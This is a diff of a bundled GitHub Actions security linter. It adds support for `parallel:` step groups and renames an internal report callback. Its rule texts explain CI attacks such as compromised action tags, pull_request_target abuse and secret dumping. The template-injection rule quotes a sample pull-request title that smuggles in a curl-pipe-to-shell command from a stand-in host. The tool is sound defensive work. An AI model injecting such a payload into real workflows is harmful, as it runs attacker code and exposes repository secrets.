@@ -7069,13 +7069,18 @@ var MapView = class _MapView {
   }
 };
 var StepView = class extends MapView {
-  constructor(map2, doc, index, node) {
+  constructor(map2, doc, index, node, listIndex = index, parallel = null) {
     super(map2, doc);
     this.index = index;
     this.node = node;
+    this.listIndex = listIndex;
+    this.parallel = parallel;
+    this.parallelSteps = NO_STEPS;
   }
   index;
   node;
+  listIndex;
+  parallel;
   get uses() {
     return this.get("uses");
   }
@@ -7100,6 +7105,10 @@ var StepView = class extends MapView {
   get id() {
     return this.string("id");
   }
+  /** Where a person finds the step: `3` for the third item of `steps:`, `3.2` for the second step of the group there. */
+  get position() {
+    return this.parallel ? `${this.parallel.listIndex + 1}.${this.listIndex + 1}` : `${this.listIndex + 1}`;
+  }
   /** `name`, `id`, the action or the first line of the script: how a person refers to this step. */
   get label() {
     const name = this.name?.value ?? this.id?.value;
@@ -7111,25 +7120,73 @@ var StepView = class extends MapView {
       const first = run2.trim().split("\n")[0] ?? "";
       return first.length > 40 ? `${first.slice(0, 40)}…` : first;
     }
-    return `step ${this.index + 1}`;
+    if (this.parallelSteps.length > 0) return `parallel group at step ${this.position}`;
+    return `step ${this.position}`;
   }
   get nodeSpan() {
     return nodeSpan(this.node);
   }
 };
+var NO_STEPS = Object.freeze([]);
 function stepsOf(view) {
   const seq2 = asSeq(view.get("steps")?.value ?? null);
-  return seqItems(seq2, view.doc).map((node, index) => new StepView(asMap(node), view.doc, index, node));
+  const steps = [];
+  const items = [];
+  if (!seq2) return { steps, items };
+  const doc = view.doc;
+  for (let i = 0; i < seq2.items.length; i++) {
+    const node = resolveAlias(seq2.items[i], doc);
+    if (!node) continue;
+    const step = new StepView(asMap(node), doc, steps.length, node, i);
+    steps.push(step);
+    items[i] = step;
+    const group = asSeq(step.get("parallel")?.value ?? null);
+    if (!group) continue;
+    const members = [];
+    for (let j = 0; j < group.items.length; j++) {
+      const member = resolveAlias(group.items[j], doc);
+      if (!member) continue;
+      const nested = new StepView(asMap(member), doc, steps.length, member, j, step);
+      steps.push(nested);
+      members.push(nested);
+    }
+    step.parallelSteps = members;
+  }
+  return { steps, items };
+}
+function stepAtPath(items, path, at) {
+  const position = path[at];
+  if (typeof position !== "number") return null;
+  const step = items[position];
+  if (!step) return null;
+  const inner = path[at + 2];
+  if (path[at + 1] === "parallel" && typeof inner === "number" && step.parallelSteps.length > 0) {
+    const member = step.parallelSteps.find((candidate) => candidate.listIndex === inner);
+    return member ? { step: member, keysAt: at + 3 } : null;
+  }
+  return { step, keysAt: at + 1 };
+}
+function stepKeysStart(path, kind) {
+  const at = kind === "workflow" ? path[0] === "jobs" && path[2] === "steps" ? 3 : -1 : path[0] === "runs" && path[1] === "steps" ? 2 : -1;
+  if (at === -1 || typeof path[at] !== "number") return -1;
+  return path[at + 1] === "parallel" && typeof path[at + 2] === "number" ? at + 3 : at + 1;
 }
 var JobView = class extends MapView {
   constructor(entry, doc) {
     super(asMap(entry.value), doc);
     this.entry = entry;
-    this.steps = stepsOf(this);
+    const lists = stepsOf(this);
+    this.steps = lists.steps;
+    this.stepItems = lists.items;
     this.attachments = {};
   }
   entry;
+  /** Every step, flattened in document order (the steps of a `parallel:` group follow their group's step). */
   steps;
+  /** The step a key path `jobs.<id>.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
+  stepAt(path) {
+    return path[2] === "steps" ? stepAtPath(this.stepItems, path, 3) : null;
+  }
   get id() {
     return this.entry.key;
   }
@@ -7230,11 +7287,18 @@ var WorkflowView = class extends MapView {
 };
 var ActionView = class extends MapView {
   runs;
+  /** Every step of a composite action, flattened as a job's are. */
   steps;
   constructor(map2, doc) {
     super(map2, doc);
     this.runs = this.child("runs");
-    this.steps = stepsOf(this.runs);
+    const lists = stepsOf(this.runs);
+    this.steps = lists.steps;
+    this.stepItems = lists.items;
+  }
+  /** The step a key path `runs.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
+  stepAt(path) {
+    return path[0] === "runs" && path[1] === "steps" ? stepAtPath(this.stepItems, path, 2) : null;
   }
   /** `composite`, `docker`, `node20`, ... */
   get using() {
@@ -8631,7 +8695,7 @@ var dangerousTriggers = {
     why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Astral forbids both triggers organisation-wide.",
     fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const trigger of workflow.triggers) {
@@ -8640,7 +8704,7 @@ var dangerousTriggers = {
       const jobs = workflow.jobs.length;
       const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
       const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
-      report({
+      report2({
         span: trigger.span,
         message: `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}; ${subject} ${verb}`
       });
@@ -9529,6 +9593,7 @@ function envSets(env) {
 var LazyStepRef = class {
   constructor(step) {
     this.index = step.index;
+    this.position = step.position;
     this.span = step.uses?.valueSpan ?? step.run?.valueSpan ?? step.nodeSpan ?? { start: 0, end: 0 };
     this.step = step;
     this.cachedLabel = void 0;
@@ -10284,16 +10349,16 @@ var anonymousDefinition = {
     why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
     fix: "Add `name:` at the top of the workflow and to each job."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow || !workflow.map) return;
     if (!workflow.has("name")) {
       const first = workflow.entries[0];
-      if (first) report({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
+      if (first) report2({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
     }
     for (const job of workflow.jobs) {
       if (!job.map || job.has("name")) continue;
-      report({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
+      report2({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
     }
   }
 };
@@ -10366,7 +10431,7 @@ var archivedUses = {
     why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
     fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
@@ -10374,7 +10439,7 @@ var archivedUses = {
       if (!archived) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({
+      report2({
         span,
         message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
       });
@@ -10400,7 +10465,7 @@ var concurrencyLimits = {
     why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
     fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow || workflow.jobs.length === 0) return;
     if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
@@ -10408,7 +10473,7 @@ var concurrencyLimits = {
     if (declaresCancel(top, workflow.doc)) return;
     if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
     const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
-    report({
+    report2({
       span,
       message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
     });
@@ -10447,7 +10512,7 @@ var dependabotCooldown = {
     why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
     fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
@@ -10462,7 +10527,7 @@ var dependabotCooldown = {
       if (!cooldownEntry) {
         const firstKey = update.entries[0];
         const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
-        report({
+        report2({
           span: anchor,
           message: `${name} updates have no cooldown: new releases are proposed the day they are published. Add \`cooldown: { default-days: ${minimum} }\``,
           fixes: [
@@ -10480,7 +10545,7 @@ var dependabotCooldown = {
       const days = cooldown.get("default-days");
       if (!days) {
         const first = mapEntries(cooldown.map, file.doc)[0];
-        report({
+        report2({
           span: cooldownEntry.keySpan,
           message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys wait only Dependabot's default. Set \`default-days: ${minimum}\``,
           fixes: first ? [{ title: `Set default-days: ${minimum}`, isPreferred: true, safety: "safe", edits: [insertLinesAbove(file, first.keySpan.start, [`default-days: ${minimum}`])] }] : []
@@ -10491,7 +10556,7 @@ var dependabotCooldown = {
       const value = text === null ? NaN : Number(text);
       if (Number.isFinite(value) && value >= minimum) continue;
       if (text !== null && text.includes("${{")) continue;
-      report({
+      report2({
         span: days.valueSpan,
         message: `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
         fixes: [{ title: `Raise default-days to ${minimum}`, isPreferred: true, safety: "safe", edits: [{ span: days.valueSpan, newText: String(minimum) }] }]
@@ -10513,14 +10578,14 @@ var dependabotExecution = {
     why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
     fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     for (const update of dependabot.updates) {
       const option = update.string("insecure-external-code-execution");
       if (!option || option.value !== "allow") continue;
       const ecosystem = update.string("package-ecosystem")?.value;
-      report({
+      report2({
         span: option.span,
         message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
         fixes: [{ title: "Set insecure-external-code-execution to deny", isPreferred: true, safety: "unsafe", edits: [{ span: option.span, newText: "deny" }] }]
@@ -10542,7 +10607,7 @@ var dependabotMissingActions = {
     why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
     fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const updatesEntry = dependabot.get("updates");
@@ -10574,7 +10639,7 @@ var dependabotMissingActions = {
         });
       }
     }
-    report({
+    report2({
       span: updatesEntry.keySpan,
       message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
       fixes
@@ -10615,7 +10680,7 @@ var forbiddenUses = {
     why: `Every third-party action runs with the job's token and secrets. Organisations that vet actions (as GitHub's own "allowed actions" policy does) need the editor to say so before CI does; the 2025 tj-actions/changed-files and reviewdog compromises hit repositories that had never decided whether they trusted those owners.`,
     fix: "Use an allowed action, or extend the policy in `.github/actions-warden.yml` (or `zizmor.yml`): `rules: { forbidden-uses: { config: { allow: [actions/*, astral-sh/setup-uv] } } }`."
   },
-  check({ file, config, report }) {
+  check({ file, config, report: report2 }) {
     const allow = patterns(config.allow);
     const deny = allow ? null : patterns(config.deny);
     if (!allow && !deny) return;
@@ -10626,11 +10691,11 @@ var forbiddenUses = {
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
       if (allow) {
         if (!allow.some((pattern) => matchesUsesPattern(pattern, reference))) {
-          report({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
+          report2({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
         }
       } else if (deny) {
         const hit = deny.find((pattern) => matchesUsesPattern(pattern, reference));
-        if (hit) report({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
+        if (hit) report2({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
       }
     }
   }
@@ -10650,7 +10715,7 @@ var githubApp = {
     why: "App tokens are how hardened projects (Astral, the Trivy and Grafana post-mortems) replace long-lived PATs — but an App installation usually spans an organisation. In the 2025 Grafana incident an injected workflow stole exactly such credentials; a token scoped to one repository and a few permissions, revoked at the end of the job, limits what a thief can do and for how long.",
     fix: "Name the repositories (`repositories: repo-a`), request only the permissions used (`permission-contents: write`), and leave token revocation on."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || !APP_TOKEN_ACTIONS.has(reference.repository.toLowerCase()) || !site.step) continue;
@@ -10659,18 +10724,18 @@ var githubApp = {
       const label = `Step \`${step.label}\``;
       const skip = inputs.string("skip-token-revoke");
       if (skip && skip.value.trim().toLowerCase() === "true") {
-        report({ span: skip.span, message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour` });
+        report2({ span: skip.span, message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour` });
       }
       const owner = inputs.get("owner");
       if (owner && !inputs.has("repositories")) {
-        report({
+        report2({
           span: owner.keySpan,
           message: `${label} sets \`owner\` without \`repositories\`, so the token can act on every repository the App is installed on`,
           confidence: "medium"
         });
       }
       if (!inputs.entries.some((entry) => entry.key.startsWith("permission-"))) {
-        report({
+        report2({
           span: site.entry.valueSpan,
           message: `${label} requests no \`permission-*\` inputs, so the token carries every permission granted to the App: request only what the job uses`,
           severity: "medium"
@@ -11408,7 +11473,7 @@ var knownVulnerableActions = {
     why: "In March 2025 the tags of `tj-actions/changed-files` (CVE-2025-30066) were moved to a commit that printed the runner's secrets into public logs, after a similar compromise of `reviewdog/action-setup@v1` (CVE-2025-30154). In March 2026 the tags of `aquasecurity/trivy-action` and `aquasecurity/setup-trivy` were force-pushed to a credential stealer (CVE-2026-33634). Other actions shipped injection bugs fixed in a later release. Workflows still naming those versions or commits remain exposed, or were exposed while the bad code was live.",
     fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const snapshot = snapshotOf(file);
     for (const site of file.uses) {
       const reference = site.reference;
@@ -11423,7 +11488,7 @@ var knownVulnerableActions = {
         const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
         if (sha) {
           if (advisory.badCommits?.includes(sha)) {
-            report({
+            report2({
               span: refSpan2,
               message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -11436,7 +11501,7 @@ var knownVulnerableActions = {
           const version2 = tagged ?? usesCommentVersion(file, site);
           if (version2 && verdict(version2, advisory) === "affected") {
             const fix = bumpFix(file, site, reference, refs, advisory);
-            report({
+            report2({
               span: refSpan2,
               message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -11466,7 +11531,7 @@ var knownVulnerableActions = {
           });
         }
         const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
-        report({
+        report2({
           span: refSpan2,
           message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
           severity: advisory.severity,
@@ -11647,7 +11712,7 @@ var selfRepository = {
     why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
     fix: "Write `uses: $/path`. The quick fix is marked safe when the job checks out only its own repository at the default ref, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     for (const site of file.uses) {
@@ -11661,7 +11726,7 @@ var selfRepository = {
       const leading = site.value.length - site.value.trimStart().length;
       const span = { start: site.valueStart + leading, end: site.valueStart + leading + raw.length };
       const replacement = `$/${raw.slice(2)}`;
-      report({
+      report2({
         span: { start: span.start, end: span.start + 2 },
         message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
         fixes: [{ title: `Use \`${replacement}\``, isPreferred: true, safety: safe ? "safe" : "unsafe", edits: [{ span: { start: span.start, end: span.start + 2 }, newText: "$/" }] }]
@@ -11701,7 +11766,7 @@ var superfluousActions = {
     why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
     fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || reference.subpath !== null) continue;
@@ -11709,7 +11774,7 @@ var superfluousActions = {
       if (!entry) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
+      report2({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
     }
   }
 };
@@ -11814,14 +11879,14 @@ var typosquatUses = {
     why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
     fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
       const target = typosquatTarget(reference.repository);
       if (!target) continue;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
-      report({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
+      report2({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
     }
   }
 };
@@ -11987,7 +12052,7 @@ var unsoundCondition = {
     why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
     fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const { entry, owner } of conditions(file)) {
       const scalar = asScalar(entry.value);
       if (!scalar || typeof scalar.value !== "string") continue;
@@ -12007,7 +12072,7 @@ var unsoundCondition = {
         }
       }
       const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
-      report({
+      report2({
         span: entry.valueSpan,
         message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
         fixes
@@ -12030,7 +12095,7 @@ var unsoundContains = {
     why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
     fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!/contains/i.test(expression.text)) continue;
       const ast = expression.parsed.ast;
@@ -12042,7 +12107,7 @@ var unsoundContains = {
         const path = contextPath(needle, { caseInsensitive: true });
         if (!path) return;
         const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
-        report({
+        report2({
           span: { start: node.start, end: node.end },
           message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
           severity: controllable ? "high" : "informational"
@@ -12074,7 +12139,7 @@ var unsoundTernary = {
     why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
     fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
       const ast = expression.parsed.ast;
@@ -12085,7 +12150,7 @@ var unsoundTernary = {
         if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
         const literal = unwrap(left.right);
         const shown = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
-        report({
+        report2({
           span: { start: node.start, end: node.end },
           message: `\`… && ${shown} || …\` never evaluates to ${shown}: when the condition holds, ${shown} is falsy and the \`||\` branch is taken instead`
         });
@@ -12975,11 +13040,10 @@ function scopeOf(file, path) {
   const triggers = scopeTriggers(file);
   if (file.workflow && path[0] === "jobs" && typeof path[1] === "string") {
     const job = file.workflow.job(path[1]) ?? null;
-    const step = job && path[2] === "steps" && typeof path[3] === "number" ? job.steps[path[3]] ?? null : null;
-    return { file, job, step, triggers };
+    return { file, job, step: job?.stepAt(path)?.step ?? null, triggers };
   }
-  if (file.action && path[0] === "runs" && path[1] === "steps" && typeof path[2] === "number") {
-    return { file, job: null, step: file.action.steps[path[2]] ?? null, triggers };
+  if (file.action && path[0] === "runs" && path[1] === "steps") {
+    return { file, job: null, step: file.action.stepAt(path)?.step ?? null, triggers };
   }
   return { file, job: null, step: null, triggers };
 }
@@ -13204,11 +13268,10 @@ function runLanguage(scope, step) {
   const shell = stepShell(scope, step);
   return shell === "pwsh" || shell === "powershell" ? "pwsh" : shell === "cmd" ? "cmd" : shell === "python" ? "python" : "bash";
 }
-function sinkOf(file, site, scope) {
+function sinkOf(site, scope, base2) {
   const step = scope.step;
   if (!step) return null;
   const path = site.path;
-  const base2 = file.workflow ? 4 : 3;
   if (path.length === base2 + 1 && path[base2] === "run") {
     const entry = step.run;
     if (!entry) return null;
@@ -13241,14 +13304,15 @@ var templateInjection = {
     why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
   },
-  check({ file, report }) {
-    const base2 = file.workflow ? 4 : 3;
+  check({ file, report: report2 }) {
+    const kind = file.workflow ? "workflow" : "action";
     for (const site of file.expressions) {
       if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
       const path = site.path;
-      if (!(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
+      const base2 = stepKeysStart(path, kind);
+      if (base2 === -1 || !(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
       const scope = scopeOf(file, path);
-      const sink = sinkOf(file, site, scope);
+      const sink = sinkOf(site, scope, base2);
       if (!sink) continue;
       const leaves = assessSite(site, scope);
       if (leaves.length === 0) continue;
@@ -13261,7 +13325,7 @@ var templateInjection = {
           const fix = canMove ? moveToEnv(file, site, sink, sink.language ?? runLanguage(scope, step), step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
           return fix ? [fix] : [];
         };
-        report({
+        report2({
           span: { start: leaf.start, end: leaf.end },
           message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
           severity: verdict2.severity,
@@ -13466,14 +13530,14 @@ var insecureCommands = {
     why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
     fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const env of envMaps(file)) {
       env.entries.forEach((entry, index) => {
         if (entry.key.toUpperCase() !== NAME) return;
         const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
         if (value === "false" || value === "0" || value === "") return;
         const edit = removeEntry(file, env, index);
-        report({
+        report2({
           span: entry.keySpan,
           message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
           confidence: value.includes("${{") ? "medium" : "high",
@@ -13497,20 +13561,20 @@ var overprovisionedSecrets = {
     why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
     fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.expressions) {
       const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
       if (!ast) continue;
       const base2 = site.occurrence.innerStart;
       walkExpression(ast, (node) => {
         if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
-          report({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
+          report2({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
           return false;
         }
         if (node.type === "index" && contextPath(node.object) === "secrets") {
           const index = node.index;
           if (!(index.type === "literal" && index.kind === "string")) {
-            report({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
+            report2({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
           }
         }
         return true;
@@ -13532,7 +13596,7 @@ var unredactedSecrets = {
     why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
     fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
   },
-  check({ file, report }) {
+  check({ file, report: report2 }) {
     for (const site of file.expressions) {
       const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
       if (!ast) continue;
@@ -13541,7 +13605,7 @@ var unredactedSecrets = {
         if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
